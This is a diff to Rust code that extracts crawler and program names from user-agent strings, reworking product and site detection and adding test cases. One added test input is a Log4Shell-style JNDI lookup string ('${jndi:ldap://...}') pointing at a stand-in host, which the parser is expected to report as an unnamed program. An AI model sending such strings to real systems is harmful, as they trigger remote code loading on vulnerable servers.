@@ -36,8 +36,11 @@ fn crawler_name(agent: &AgentText<'_>) -> Option<(usize, usize)> {
     if crawler.is_none() && !shapes::is_program(agent) {
         return None;
     }
+    if !text.starts_with(b"mozilla") {
+        return Some((0, product_len(text)));
+    }
     let listed = || crawler.filter(is_name(text)).map(|found| (found.start, found.end));
-    Some(shapes::name(agent).or_else(listed).unwrap_or_else(|| first_product(text)))
+    Some(shapes::name(agent).or_else(listed).or_else(|| site(text)).unwrap_or_default())
 }
 
 /// Whether what was found of a crawler is its name: `+http` is none.
@@ -45,13 +48,18 @@ fn is_name(text: &[u8]) -> impl Fn(&Found) -> bool + '_ {
     |found| text[found.start].is_ascii_alphanumeric()
 }
 
-/// The agent up to its first version or comment; where it starts like a browser's, the site that it names.
-fn first_product(text: &[u8]) -> (usize, usize) {
+/// A product ends at its version, a comment, a dash or a browser's name.
+fn product_len(text: &[u8]) -> usize {
+    let mark = text.iter().position(|byte| b"/(;,:".contains(byte));
+    let others = [&b" - "[..], b" mozilla"].into_iter().filter_map(|other| memchr::memmem::find(text, other));
+    mark.into_iter().chain(others).min().unwrap_or(text.len()).min(MAX_NAME)
+}
+
+/// The site that an agent names.
+fn site(text: &[u8]) -> Option<(usize, usize)> {
     let find = |mark: &[u8]| memchr::memmem::find(text, mark).map(|at| at + mark.len());
-    let start = if text.starts_with(b"mozilla") { find(b"://www.").or_else(|| find(b"://")) } else { None };
-    let start = start.unwrap_or(0);
-    let len = text[start..].iter().position(|byte| b"/(;,)".contains(byte)).unwrap_or(text.len() - start);
-    (start, start + len.min(MAX_NAME))
+    let start = find(b"://www.").or_else(|| find(b"://"))?;
+    Some((start, start + product_len(&text[start..])))
 }
 
 /// What a program is called that gives no name.
@@ -67,7 +75,7 @@ fn named(agent: &AgentText<'_>, (start, end): (usize, usize)) -> Program {
     let rest = raw[end..].iter().take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_'));
     let end = end + rest.count();
     let name = String::from_utf8_lossy(raw[start..end].trim_ascii()).into_owned();
-    if name.is_empty() || name.starts_with("Mozilla") {
+    if !name.starts_with(|c: char| c.is_ascii_alphanumeric()) {
         return Program { name: UNNAMED.to_owned(), version: None };
     }
     Program { name, version: version::behind(raw, end) }
@@ -85,6 +93,8 @@ mod tests {
             ("python-requests/2.31.0", "python-requests 2.31.0"),
             ("BoardReader Blog Indexer(http://boardreader.com)", "BoardReader Blog Indexer"),
             ("Mozilla/5.0 (compatible; +http://tweetedtimes.com)", "tweetedtimes.com"),
+            ("Better Uptime Bot Mozilla/5.0 (Windows NT 10.0)", "Better Uptime Bot"),
+            ("${jndi:ldap://example.org/a}", "unnamed program"),
             ("yacybot (/global; amd64 Linux) http://yacy.net/bot.html", "yacybot"),
         ] {
             let found = program(&AgentText::new(agent.as_bytes())).expect("it is a program's");
